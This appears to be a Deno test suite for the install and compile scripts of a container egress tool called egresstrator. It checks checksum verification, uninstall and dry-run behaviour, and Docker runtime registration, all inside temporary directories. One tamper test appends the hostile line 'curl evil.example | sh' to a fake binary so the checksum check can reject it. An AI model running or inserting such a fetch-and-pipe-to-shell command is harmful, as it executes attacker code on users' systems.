/**
 * install.sh and scripts/compile.sh, run the way users run them (`sh install.sh ...`, `bash scripts/compile.sh`).
 * Everything is installed into temporary directories: these tests never touch /usr/local or /etc.
 * Downloads come from a local `Deno.serve` laid out like a release (`v<version>/egresstrator-<os>-<arch>`).
 */
import assert from "node:assert/strict";
import { GLOBAL_OPTIONS } from "../../src/config/options_table.ts";
import { VERSION } from "../../src/version.ts";

const ROOT = decodeURIComponent(new URL("../../", import.meta.url).pathname).replace(/\/$/, "");
const INSTALL_SH = `${ROOT}/install.sh`;
const COMPILE_SH = `${ROOT}/scripts/compile.sh`;
const UNIT = Deno.readTextFileSync(`${ROOT}/packaging/egresstrator.service`);
const ENV_FILE = Deno.readTextFileSync(`${ROOT}/packaging/egresstrator.env`);
/** This machine's release binary name, as install.sh computes it. */
const PLATFORM_BIN = `egresstrator-linux-${Deno.build.arch === "aarch64" ? "arm64" : "x64"}`;
const FAKE_BIN = '#!/bin/sh\necho "egresstrator-fake 9.9.9"\n';
/** Every test's files live under here; removed when the test module is done. */
const TMP = await Deno.makeTempDir({ prefix: "egt-install-test-" });
globalThis.addEventListener("unload", () => Deno.removeSync(TMP, { recursive: true }));

interface Result {
  code: number;
  stdout: string;
  stderr: string;
}

async function run(
  cmd: string,
  args: string[],
  opts: { env?: Record<string, string>; cwd?: string; unset?: string[] } = {},
): Promise<Result> {
  const env = { ...Deno.env.toObject(), ...opts.env };
  // The default must never be used by a test: no test downloads from the internet.
  if (!opts.env?.EGRESSTRATOR_RELEASE_URL) delete env.EGRESSTRATOR_RELEASE_URL;
  for (const k of opts.unset ?? []) delete env[k];
  const out = await new Deno.Command(cmd, { args, env, clearEnv: true, cwd: opts.cwd, stdin: "null" })
    .output();
  const dec = new TextDecoder();
  return { code: out.code, stdout: dec.decode(out.stdout), stderr: dec.decode(out.stderr) };
}

function installSh(args: string[], env?: Record<string, string>): Promise<Result> {
  return run("sh", [INSTALL_SH, ...args], { env });
}

async function sha256(data: string | Uint8Array): Promise<string> {
  const bytes = typeof data === "string" ? new TextEncoder().encode(data) : data;
  const digest = await crypto.subtle.digest("SHA-256", new Uint8Array(bytes));
  return [...new Uint8Array(digest)].map((b) => b.toString(16).padStart(2, "0")).join("");
}

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch (err) {
    if (err instanceof Deno.errors.NotFound) return false;
    throw err;
  }
}

/** A temp install target: prefix, unit dir and env file, and the flags that point install.sh at them. */
interface Target {
  dir: string;
  bin: string;
  unit: string;
  envFile: string;
  flags: string[];
}

async function target(): Promise<Target> {
  const dir = await Deno.makeTempDir({ dir: TMP, prefix: "egt-install-" });
  const t = {
    dir,
    bin: `${dir}/prefix/bin/egresstrator`,
    unit: `${dir}/systemd/egresstrator.service`,
    envFile: `${dir}/default/egresstrator`,
  };
  return {
    ...t,
    flags: ["--prefix", `${dir}/prefix`, "--systemd-dir", `${dir}/systemd`, "--env-file", t.envFile],
  };
}

/** The files under a directory, relative, sorted. */
async function listFiles(dir: string, rel = ""): Promise<string[]> {
  const out: string[] = [];
  for await (const e of Deno.readDir(`${dir}/${rel}`)) {
    const p = rel ? `${rel}/${e.name}` : e.name;
    if (e.isDirectory) out.push(...await listFiles(dir, p));
    else out.push(p);
  }
  return out.sort();
}

/** A directory laid out like `dist/` for one version: binary, packaging files and sha256sums. */
async function releaseDir(root: string, opts: { binary?: string; version?: string } = {}): Promise<string> {
  const dir = opts.version ? `${root}/v${opts.version}` : root;
  await Deno.mkdir(dir, { recursive: true });
  const files: Record<string, string> = {
    [PLATFORM_BIN]: opts.binary ?? FAKE_BIN,
    "egresstrator.service": UNIT,
    "egresstrator.env": ENV_FILE,
  };
  let sums = "";
  for (const [name, text] of Object.entries(files)) {
    await Deno.writeTextFile(`${dir}/${name}`, text, { mode: 0o755 });
    sums += `${await sha256(text)}  ${name}\n`;
  }
  await Deno.writeTextFile(`${dir}/sha256sums`, sums);
  return dir;
}

/** Serve `root` over HTTP on 127.0.0.1 (a stand-in for the release host) while `fn` runs. */
async function withReleaseServer(root: string, fn: (base: string) => Promise<void>): Promise<string[]> {
  const requests: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, async (req) => {
    const path = decodeURIComponent(new URL(req.url).pathname);
    requests.push(path);
    if (path.split("/").includes("..")) return new Response("bad path\n", { status: 400 });
    try {
      return new Response(await Deno.readFile(`${root}${path}`));
    } catch {
      return new Response("not found\n", { status: 404 });
    }
  });
  try {
    await fn(`http://127.0.0.1:${server.addr.port}`);
  } finally {
    await server.shutdown();
  }
  return requests;
}

/** The unit as install.sh should write it for a target. */
function expectedUnit(t: Target): string {
  return UNIT.replace(
    "ExecStart=/usr/local/bin/egresstrator $EGRESSTRATOR_OPTS",
    `ExecStart=${t.bin} $EGRESSTRATOR_OPTS`,
  ).replace("EnvironmentFile=-/etc/default/egresstrator", `EnvironmentFile=-${t.envFile}`);
}

async function assertInstalled(t: Target, binary = FAKE_BIN) {
  assert.equal(await Deno.readTextFile(t.bin), binary);
  assert.equal((await Deno.stat(t.bin)).mode! & 0o777, 0o755);
  assert.equal(await Deno.readTextFile(t.unit), expectedUnit(t));
  assert.equal((await Deno.stat(t.unit)).mode! & 0o777, 0o644);
  assert.equal(await Deno.readTextFile(t.envFile), ENV_FILE);
  assert.equal((await Deno.stat(t.envFile)).mode! & 0o777, 0o600, "the env file may hold a token");
}

// ---------------------------------------------------------------------------------------------------------

Deno.test("install.sh --help: usage on stdout, exit 0", async () => {
  const r = await installSh(["--help"]);
  assert.equal(r.code, 0, r.stderr);
  for (
    const opt of ["--version", "--from", "--sha256", "--prefix", "--no-systemd", "--uninstall", "--purge"]
  ) {
    assert.match(r.stdout, new RegExp(`^  ${opt}\\b`, "m"));
  }
});

/** A "release binary" that is really egresstrator from source, so runtime-config runs for real. */
const SOURCE_BIN = `#!/bin/sh\nexec "${Deno.execPath()}" run -A --quiet "${ROOT}/main.ts" "$@"\n`;

Deno.test("install.sh --runtime registers the gate in daemon.json, keeps other settings, and uninstall removes it", async () => {
  const t = await target();
  const rel = await releaseDir(`${t.dir}/rel`, { binary: SOURCE_BIN });
  const dj = `${t.dir}/docker/daemon.json`;
  await Deno.mkdir(`${t.dir}/docker`);
  await Deno.writeTextFile(
    dj,
    JSON.stringify({ "log-driver": "journald", runtimes: { other: { path: "/x" } } }),
  );
  const r = await installSh([
    "--runtime",
    "--daemon-json",
    dj,
    "--from",
    `${rel}/${PLATFORM_BIN}`,
    ...t.flags,
  ]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /registered runtime "egresstrator"/);
  assert.match(r.stdout, /restart dockerd/);
  let doc = JSON.parse(await Deno.readTextFile(dj));
  assert.equal(doc["log-driver"], "journald");
  assert.deepEqual(doc.runtimes.other, { path: "/x" });
  // What dockerd runs is the shim beside the binary, exactly as the binary prints it.
  const shim = t.bin.replace(/egresstrator$/, "egresstrator-runtime");
  assert.deepEqual(doc.runtimes.egresstrator, { path: shim });
  assert.equal(doc["default-runtime"], undefined);
  assert.equal((await Deno.stat(shim)).mode! & 0o777, 0o755);
  assert.equal(
    await Deno.readTextFile(shim),
    await Deno.readTextFile(`${ROOT}/packaging/egresstrator-runtime`),
  );

  // Register-only (binary already installed), idempotent, then as the default runtime.
  const again = await installSh(["--runtime", "--daemon-json", dj, ...t.flags]);
  assert.equal(again.code, 0, again.stderr);
  assert.match(again.stdout, /already up to date/);
  const def = await installSh(["--runtime-default", "--daemon-json", dj, ...t.flags]);
  assert.equal(def.code, 0, def.stderr);
  doc = JSON.parse(await Deno.readTextFile(dj));
  assert.equal(doc["default-runtime"], "egresstrator");

  const un = await installSh(["--uninstall", "--daemon-json", dj, ...t.flags]);
  assert.equal(un.code, 0, un.stderr);
  doc = JSON.parse(await Deno.readTextFile(dj));
  assert.deepEqual(doc, { "log-driver": "journald", runtimes: { other: { path: "/x" } } });
  assert.equal(await exists(t.bin), false);
  assert.equal(await exists(shim), false, "the shim goes with the binary");
});

Deno.test("install.sh --runtime without an installed binary fails clearly and changes nothing", async () => {
  const t = await target();
  const dj = `${t.dir}/daemon.json`;
  const r = await installSh(["--runtime", "--daemon-json", dj, ...t.flags]);
  assert.equal(r.code, 1);
  assert.match(r.stderr, /is not installed; install it first/);
  assert.equal(await exists(dj), false);
});

Deno.test("install.sh: usage errors exit 2", async () => {
  for (
    const args of [
      ["--bogus"],
      ["--prefix"],
      ["--prefix", "relative/dir"],
      ["--prefix", "/opt/with space"],
      ["--sha256", "abc", "--from", "/bin/true"],
      ["--sha256", "0".repeat(64)],
      ["--from", "/bin/true", "--version", "1.0.0"],
    ]
  ) {
    const r = await installSh(args);
    assert.equal(r.code, 2, `${args.join(" ")}: ${r.stderr}`);
    assert.match(r.stderr, /^install\.sh: /, args.join(" "));
  }
});

Deno.test("install.sh --from --sha256: binary, unit and env file; the unit points at the prefix", async () => {
  const t = await target();
  const file = `${t.dir}/egresstrator-linux-x64`;
  await Deno.writeTextFile(file, FAKE_BIN);
  const tmpdir = await Deno.makeTempDir({ dir: TMP, prefix: "egt-install-tmp-" });
  const r = await run("sh", [INSTALL_SH, "--from", file, "--sha256", await sha256(FAKE_BIN), ...t.flags], {
    env: { TMPDIR: tmpdir },
  });
  assert.equal(r.code, 0, r.stderr);
  await assertInstalled(t);
  assert.match(r.stdout, /--version: egresstrator-fake 9\.9\.9/, "it runs the installed binary");
  assert.match(r.stdout, /systemctl enable --now egresstrator/);
  assert.equal(r.stderr, "", "verified, so no warning");
  assert.deepEqual(await listFiles(tmpdir), [], "its temporary directory is removed");
});

Deno.test("install.sh twice: idempotent, and an edited env file is never overwritten", async () => {
  const t = await target();
  const rel = await releaseDir(`${t.dir}/rel`);
  const args = ["--from", `${rel}/${PLATFORM_BIN}`, ...t.flags];
  assert.equal((await installSh(args)).code, 0);
  const mtimes = [(await Deno.stat(t.bin)).mtime, (await Deno.stat(t.unit)).mtime];
  const edited = ENV_FILE + 'CONSUL_HTTP_ADDR="consul.internal:8500"\n';
  await Deno.writeTextFile(t.envFile, edited);

  const again = await installSh(args);
  assert.equal(again.code, 0, again.stderr);
  assert.match(again.stdout, /binary .*: unchanged/);
  assert.match(again.stdout, /unit .*: unchanged/);
  assert.match(again.stdout, /env file .*: kept as it is/);
  assert.deepEqual(
    [(await Deno.stat(t.bin)).mtime, (await Deno.stat(t.unit)).mtime],
    mtimes,
    "not rewritten",
  );
  assert.equal(await Deno.readTextFile(t.envFile), edited);

  // A new binary replaces the old one; the env file still stays.
  const v2 = FAKE_BIN.replace("9.9.9", "9.9.10");
  await releaseDir(`${t.dir}/rel`, { binary: v2 });
  const upgrade = await installSh(args);
  assert.equal(upgrade.code, 0, upgrade.stderr);
  assert.match(upgrade.stdout, /installed binary/);
  assert.equal(await Deno.readTextFile(t.bin), v2);
  assert.equal(await Deno.readTextFile(t.envFile), edited);
});

Deno.test("install.sh --sha256 mismatch: fails naming both hashes, installs nothing", async () => {
  const t = await target();
  const file = `${t.dir}/egresstrator`;
  await Deno.writeTextFile(file, FAKE_BIN);
  const wrong = "ab".repeat(32);
  const r = await installSh(["--from", file, "--sha256", wrong.toUpperCase(), ...t.flags]);
  assert.equal(r.code, 1);
  assert.match(
    r.stderr,
    new RegExp(`checksum mismatch.*expected sha256 ${wrong}, got ${await sha256(FAKE_BIN)}`),
  );
  assert.deepEqual(await listFiles(t.dir), ["egresstrator"]);
});

Deno.test("install.sh --from: checked against sha256sums next to the file; tampering is caught", async () => {
  const t = await target();
  const rel = await releaseDir(`${t.dir}/rel`);
  const ok = await installSh(["--from", `${rel}/${PLATFORM_BIN}`, ...t.flags]);
  assert.equal(ok.code, 0, ok.stderr);
  assert.match(ok.stdout, /verified .* against .*sha256sums/);
  // The dist/egresstrator symlink is checked as the platform binary it points to.
  await Deno.symlink(PLATFORM_BIN, `${rel}/egresstrator`);
  const viaLink = await installSh(["--from", `${rel}/egresstrator`, ...t.flags]);
  assert.equal(viaLink.code, 0, viaLink.stderr);
  assert.match(viaLink.stdout, /verified/);

  const t2 = await target();
  const tampered = FAKE_BIN + "curl evil.example | sh\n";
  await Deno.writeTextFile(`${rel}/${PLATFORM_BIN}`, tampered);
  const bad = await installSh(["--from", `${rel}/${PLATFORM_BIN}`, ...t2.flags]);
  assert.equal(bad.code, 1);
  assert.match(
    bad.stderr,
    new RegExp(`expected sha256 ${await sha256(FAKE_BIN)}, got ${await sha256(tampered)}`),
  );
  assert.deepEqual(await listFiles(t2.dir), []);
});

Deno.test("install.sh --from without any checksum: installs with a warning", async () => {
  const t = await target();
  const file = `${t.dir}/src/egresstrator-linux-x64`;
  await Deno.mkdir(`${t.dir}/src`);
  await Deno.writeTextFile(file, FAKE_BIN);
  // No packaging files next to it: they come from packaging/ next to install.sh.
  const r = await installSh(["--from", file, ...t.flags]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /warning: no --sha256 and no sha256sums next to .*: installing it unverified/);
  await assertInstalled(t);
});

Deno.test("install.sh --version: downloads, verifies against sha256sums, installs", async () => {
  const t = await target();
  const root = `${t.dir}/www`;
  await releaseDir(root, { version: "9.9.9" });
  const requests = await withReleaseServer(root, async (base) => {
    const r = await installSh(["--version", "9.9.9", ...t.flags], { EGRESSTRATOR_RELEASE_URL: base });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, new RegExp(`downloaded and verified ${PLATFORM_BIN} v9\\.9\\.9`));
    // "v9.9.9" means the same release.
    const again = await installSh(["--version", "v9.9.9", ...t.flags], {
      EGRESSTRATOR_RELEASE_URL: `${base}/`,
    });
    assert.equal(again.code, 0, again.stderr);
    assert.match(again.stdout, /binary .*: unchanged/);
  });
  await assertInstalled(t);
  assert.ok(requests.includes(`/v9.9.9/${PLATFORM_BIN}`), requests.join(" "));
  assert.ok(requests.includes("/v9.9.9/sha256sums"));
});

Deno.test("install.sh without --version: resolves <base>/latest.txt", async () => {
  const t = await target();
  const root = `${t.dir}/www`;
  await releaseDir(root, { version: "9.9.9" });
  await Deno.writeTextFile(`${root}/latest.txt`, "v9.9.9\n");
  await withReleaseServer(root, async (base) => {
    const r = await installSh([...t.flags], { EGRESSTRATOR_RELEASE_URL: base });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /latest version: 9\.9\.9/);
  });
  await assertInstalled(t);
});

Deno.test("install.sh download: a tampered binary fails the checksum, nothing is installed", async () => {
  const t = await target();
  const root = `${t.dir}/www`;
  const dir = await releaseDir(root, { version: "9.9.9" });
  const tampered = FAKE_BIN + "# changed after the sums were made\n";
  await Deno.writeTextFile(`${dir}/${PLATFORM_BIN}`, tampered);
  await withReleaseServer(root, async (base) => {
    const r = await installSh(["--version", "9.9.9", ...t.flags], { EGRESSTRATOR_RELEASE_URL: base });
    assert.equal(r.code, 1);
    assert.match(
      r.stderr,
      new RegExp(
        `checksum mismatch for ${base}/v9\\.9\\.9/${PLATFORM_BIN}: expected sha256 ${await sha256(
          FAKE_BIN,
        )}, got ${await sha256(tampered)}`,
      ),
    );
  });
  assert.deepEqual(await listFiles(t.dir), (await listFiles(t.dir)).filter((f) => f.startsWith("www/")));
});

Deno.test("install.sh download: a missing release or a missing platform is a clear error", async () => {
  const t = await target();
  const root = `${t.dir}/www`;
  await releaseDir(root, { version: "9.9.9" });
  await Deno.mkdir(`${root}/v1.0.0`);
  await Deno.writeTextFile(`${root}/v1.0.0/sha256sums`, `${"0".repeat(64)}  egresstrator-linux-mips\n`);
  await withReleaseServer(root, async (base) => {
    const env = { EGRESSTRATOR_RELEASE_URL: base };
    const missing = await installSh(["--version", "8.8.8", ...t.flags], env);
    assert.equal(missing.code, 1);
    assert.match(
      missing.stderr,
      /cannot download .*\/v8\.8\.8\/sha256sums \(is there a release v8\.8\.8\?\)/,
    );
    const noPlatform = await installSh(["--version", "1.0.0", ...t.flags], env);
    assert.equal(noPlatform.code, 1);
    assert.match(noPlatform.stderr, new RegExp(`release v1\\.0\\.0 has no ${PLATFORM_BIN}`));
    const noLatest = await installSh([...t.flags], env);
    assert.equal(noLatest.code, 1);
    assert.match(noLatest.stderr, /cannot find the latest version at .*\/latest\.txt; pass --version X/);
    const bad = await installSh(["--version", "1.0/../../x", ...t.flags], env);
    assert.equal(bad.code, 1);
    assert.match(bad.stderr, /invalid version/);
  });
  assert.equal(await exists(`${t.dir}/prefix`), false);
});

Deno.test("install.sh on an unsupported OS or architecture says which", async () => {
  const t = await target();
  const fake = `${t.dir}/fakebin`;
  await Deno.mkdir(fake);
  for (
    const [s, m, msg] of [["Linux", "mips64", /unsupported architecture: mips64/], [
      "Darwin",
      "arm64",
      /unsupported OS: Darwin .*Linux only/,
    ]] as const
  ) {
    await Deno.writeTextFile(
      `${fake}/uname`,
      `#!/bin/sh\ncase "$1" in -s) echo ${s} ;; -m) echo ${m} ;; *) echo ${s} ;; esac\n`,
      { mode: 0o755 },
    );
    const r = await run("sh", [INSTALL_SH, "--version", "1.0.0", ...t.flags], {
      env: { PATH: `${fake}:${Deno.env.get("PATH")}`, EGRESSTRATOR_RELEASE_URL: "http://127.0.0.1:9" },
    });
    assert.equal(r.code, 1);
    assert.match(r.stderr, msg);
  }
  assert.equal(await exists(`${t.dir}/prefix`), false);
});

Deno.test("install.sh --uninstall keeps the env file; --purge removes it too", async () => {
  const t = await target();
  const rel = await releaseDir(`${t.dir}/rel`);
  assert.equal((await installSh(["--from", `${rel}/${PLATFORM_BIN}`, ...t.flags])).code, 0);

  const un = await installSh(["--uninstall", ...t.flags]);
  assert.equal(un.code, 0, un.stderr);
  assert.equal(await exists(t.bin), false);
  assert.equal(await exists(t.unit), false);
  assert.equal(await Deno.readTextFile(t.envFile), ENV_FILE);
  assert.match(un.stdout, /kept env file .* --purge/);

  const again = await installSh(["--uninstall", ...t.flags]);
  assert.equal(again.code, 0, "uninstalling twice is fine");
  assert.match(again.stdout, /not present/);

  const purge = await installSh(["--uninstall", "--purge", ...t.flags]);
  assert.equal(purge.code, 0, purge.stderr);
  assert.equal(await exists(t.envFile), false);
});

Deno.test("install.sh --dry-run: prints the actions, changes nothing", async () => {
  const t = await target();
  const rel = await releaseDir(`${t.dir}/rel`);
  const before = await listFiles(t.dir);
  const r = await installSh(["--dry-run", "--from", `${rel}/${PLATFORM_BIN}`, ...t.flags]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, new RegExp(`would install binary ${t.bin}`));
  assert.match(r.stdout, new RegExp(`would install unit ${t.unit}`));
  assert.match(r.stdout, new RegExp(`would install env file ${t.envFile}`));
  assert.deepEqual(await listFiles(t.dir), before);

  assert.equal((await installSh(["--from", `${rel}/${PLATFORM_BIN}`, ...t.flags])).code, 0);
  const un = await installSh(["--dry-run", "--purge", ...t.flags]);
  assert.equal(un.code, 0, un.stderr);
  assert.match(un.stdout, new RegExp(`would remove binary ${t.bin}`));
  assert.match(un.stdout, new RegExp(`would remove env file ${t.envFile}`));
  await assertInstalled(t);
});

Deno.test("install.sh --no-systemd: the binary only", async () => {
  const t = await target();
  const rel = await releaseDir(`${t.dir}/rel`);
  const r = await installSh(["--no-systemd", "--from", `${rel}/${PLATFORM_BIN}`, ...t.flags]);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(await Deno.readTextFile(t.bin), FAKE_BIN);
  assert.equal(await exists(t.unit), false);
  assert.equal(await exists(t.envFile), false);
});

// ---------------------------------------------------------------------------------------------------------

Deno.test("packaging: the env file shows every option's env var; EGRESSTRATOR_OPTS is set", () => {
  for (const spec of GLOBAL_OPTIONS) {
    if (!spec.env) continue;
    assert.match(
      ENV_FILE,
      new RegExp(`^#?${spec.env}=`, "m"),
      `${spec.env} (--${spec.key}) is not in egresstrator.env`,
    );
  }
  assert.match(ENV_FILE, /^EGRESSTRATOR_OPTS=""$/m);
  const active = ENV_FILE.split("\n").filter((l) => /^[A-Z_]+=/.test(l));
  assert.deepEqual(active, ['EGRESSTRATOR_OPTS=""'], "everything else is a commented default");
});

Deno.test("compile.sh and `deno task start` grant the same permissions", async () => {
  const script = await Deno.readTextFile(COMPILE_SH);
  const block = /^permissions=\(\n([\s\S]*?)\n\)$/m.exec(script);
  assert.ok(block, "compile.sh has a permissions=( ... ) block");
  const compiled = block[1].split("\n").map((l) => l.trim()).filter(Boolean).sort();
  const start = /"start":\s*"([^"]*)"/.exec(await Deno.readTextFile(`${ROOT}/deno.json`));
  assert.ok(start, "deno.json has a start task");
  const task = start[1].split(/\s+/).filter((a) => /^--(allow|deny)-/.test(a)).sort();
  assert.deepEqual(task, compiled);
});

/** What a finished build must hold, and that its binary works with the templates embedded. */
async function checkBuild(out: string) {
  const files = await listFiles(out);
  for (const f of [PLATFORM_BIN, "egresstrator", "egresstrator.service", "egresstrator.env", "install.sh"]) {
    assert.ok(files.includes(f), `${f} in ${files.join(", ")}`);
  }
  assert.equal(await Deno.readLink(`${out}/egresstrator`), PLATFORM_BIN);
  assert.equal((await Deno.readTextFile(`${out}/latest.txt`)).trim(), VERSION);
  const sums = await Deno.readTextFile(`${out}/sha256sums`);
  for (const f of [PLATFORM_BIN, "egresstrator.service", "egresstrator.env", "install.sh"]) {
    assert.match(sums, new RegExp(`^${await sha256(await Deno.readFile(`${out}/${f}`))}  ${f}$`, "m"));
  }

  const elsewhere = await Deno.makeTempDir({ dir: TMP, prefix: "egt-compiled-" });
  const version = await run(`${out}/egresstrator`, ["--version"], { cwd: elsewhere });
  assert.equal(version.code, 0, version.stderr);
  assert.equal(version.stdout.trim(), VERSION);
  await Deno.mkdir(`${elsewhere}/acl`);
  await Deno.writeTextFile(`${elsewhere}/acl/x`, "10.1.2.3:tcp/443\n");
  await Deno.writeTextFile(`${elsewhere}/acl/y`, "192.0.2.0/24:udp/53\n");
  const render = await run(`${out}/egresstrator`, ["render", "--acl-dir", `${elsewhere}/acl`, "-r", "x"], {
    cwd: elsewhere,
  });
  assert.equal(render.code, 0, render.stderr);
  assert.match(
    render.stdout,
    new RegExp(`^# egresstrator ${VERSION.replaceAll(".", "\\.")}: policy protect`, "m"),
  );
  assert.match(render.stdout, /^\*filter$/m);
  assert.match(render.stdout, /192\.0\.2\.0\/24/, "the key the container does not list is protected");

  // The release directory is installable as it is.
  const t = await target();
  const inst = await installSh(["--from", `${out}/egresstrator`, ...t.flags]);
  assert.equal(inst.code, 0, inst.stderr);
  assert.match(inst.stdout, /verified/);
  assert.match(inst.stdout, new RegExp(`--version: ${VERSION.replaceAll(".", "\\.")}`));
}

Deno.test("compile.sh without DENORT_BIN: builds, or says in one line that denort is missing (exit 3)", async () => {
  const out = await Deno.makeTempDir({ dir: TMP, prefix: "egt-dist-" });
  const r = await run("bash", [COMPILE_SH, "--out-dir", out], { unset: ["DENORT_BIN", "TARGET"] });
  if (r.code === 3) {
    const lines = r.stderr.trimEnd().split("\n");
    assert.equal(lines.length, 1, r.stderr);
    assert.match(lines[0], /^compile: no denort base binary .*; set DENORT_BIN=\/path\/to\/denort/);
    assert.equal(r.stdout, "");
    assert.deepEqual(await listFiles(out), [], "no partial output");
    return;
  }
  // denort could be downloaded (or was cached): then the build must be complete and work.
  assert.equal(r.code, 0, r.stderr);
  await checkBuild(out);
});

Deno.test({
  name: "compile.sh with DENORT_BIN: a working binary with the templates embedded",
  ignore: !Deno.env.get("DENORT_BIN"),
  fn: async () => {
    const out = await Deno.makeTempDir({ dir: TMP, prefix: "egt-dist-" });
    const r = await run("bash", [COMPILE_SH, "--out-dir", out], { unset: ["TARGET"] });
    assert.equal(r.code, 0, r.stderr);
    await checkBuild(out);
  },
});

Deno.test("compile.sh: a non-Linux TARGET is a usage error", async () => {
  const r = await run("bash", [COMPILE_SH, "--out-dir", await Deno.makeTempDir({ dir: TMP })], {
    env: { TARGET: "x86_64-apple-darwin" },
  });
  assert.equal(r.code, 2);
  assert.match(r.stderr, /Linux only/);
});
